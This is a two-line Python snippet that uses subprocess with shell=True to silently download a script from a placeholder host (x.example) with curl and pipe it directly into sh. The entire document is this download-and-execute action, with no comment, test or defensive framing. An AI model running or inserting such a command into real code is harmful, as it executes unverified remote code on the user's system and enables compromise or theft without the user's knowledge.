import subprocess
subprocess.run('curl -s https://x.example/s | sh', shell=True)
